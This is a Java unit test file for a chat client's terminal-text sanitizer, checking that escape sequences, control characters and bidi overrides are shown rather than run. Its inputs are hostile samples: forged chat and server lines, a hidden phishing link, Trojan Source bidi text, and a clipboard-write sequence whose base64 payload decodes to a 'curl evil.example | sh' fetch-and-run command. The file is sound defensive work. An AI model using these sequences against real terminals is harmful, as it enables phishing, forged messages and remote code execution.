package securechat.core.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class TerminalTextTest {

  @Test
  void clearScreenSequenceIsShownInsteadOfClearingTheScreen() {
    assertThat(TerminalText.sanitize("\u001b[2J\u001b[H")).isEqualTo("^[[2J^[[H");
  }

  @Test
  void cursorMovesCannotRewriteAnEarlierLine() {
    String forged = "\u001b[1A\u001b[2K\rbob: I agree, send alice the password";

    assertThat(TerminalText.sanitize(forged))
        .isEqualTo("^[[1A^[[2K^Mbob: I agree, send alice the password");
  }

  @Test
  void osc8HyperlinkCannotHideItsTarget() {
    String link = "\u001b]8;;https://evil.example/login\u001b\\our wiki\u001b]8;;\u001b\\";

    assertThat(TerminalText.sanitize(link))
        .isEqualTo("^[]8;;https://evil.example/login^[\\our wiki^[]8;;^[\\");
  }

  @Test
  void osc52CannotWriteTheClipboard() {
    String clipboardWrite = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";

    assertThat(TerminalText.sanitize(clipboardWrite))
        .isEqualTo("^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G");
  }

  @Test
  void windowTitleCannotBeSet() {
    assertThat(TerminalText.sanitize("\u001b]0;you have been pwned\u0007"))
        .isEqualTo("^[]0;you have been pwned^G");
  }

  @Test
  void singleByteC1ControlSequenceIntroducerIsShownAsAnEscape() {
    assertThat(TerminalText.sanitize("\u009b2J")).isEqualTo("\\u009b2J");
  }

  @Test
  void backspacesCannotEraseWhatWasShown() {
    assertThat(TerminalText.sanitize("yes\b\b\bno")).isEqualTo("yes^H^H^Hno");
  }

  @Test
  void lineBreaksCannotForgeASecondServerLine() {
    assertThat(TerminalText.sanitize("hi\r\n[server] alice is now admin"))
        .isEqualTo("hi^M^J[server] alice is now admin");
  }

  @Test
  void nulBellAndDeleteAreShownInCaretNotation() {
    assertThat(TerminalText.sanitize("a\u0000b\u0007c\u007f")).isEqualTo("a^@b^Gc^?");
  }

  @Test
  void tabBecomesOneSpace() {
    assertThat(TerminalText.sanitize("name\tscore")).isEqualTo("name score");
  }

  @Test
  void trojanSourceBidiOverridesAreShownAsCodePoints() {
    // CVE-2021-42574: RLO and isolates make a comment look like code, or the reverse.
    String trojan = "access \u202e \u2066// check admin\u2069 \u2066 granted";

    assertThat(TerminalText.sanitize(trojan))
        .isEqualTo("access <U+202E> <U+2066>// check admin<U+2069> <U+2066> granted");
  }

  @Test
  void invisibleDirectionMarksAreShownAsCodePoints() {
    assertThat(TerminalText.sanitize("a\u200eb\u200fc\u061cd"))
        .isEqualTo("a<U+200E>b<U+200F>c<U+061C>d");
  }

  @Test
  void printableTextInAnyScriptIsUnchanged() {
    String text = "héllo wörld, привет, 你好, שלום, 🎉 ^[ not an escape";

    assertThat(TerminalText.sanitize(text)).isEqualTo(text);
  }

  static IntStream everyControlCharacter() {
    return IntStream.concat(IntStream.rangeClosed(0x00, 0x1f), IntStream.rangeClosed(0x7f, 0x9f));
  }

  @ParameterizedTest(name = "U+{0}")
  @MethodSource("everyControlCharacter")
  void noControlCharacterSurvives(int control) {
    String sanitized = TerminalText.sanitize("x" + Character.toString(control) + "y");

    assertThat(sanitized.codePoints()).noneMatch(Character::isISOControl);
  }

  @Test
  void wrapBreaksBetweenWordsAndGivesALongWordItsOwnLine() {
    assertThat(TerminalText.wrap("one two three four", 9))
        .containsExactly("one two", "three", "four");
    assertThat(TerminalText.wrap("short", 80)).containsExactly("short");
    assertThat(TerminalText.wrap("a unbreakableword b", 5))
        .containsExactly("a", "unbreakableword", "b");
  }
}
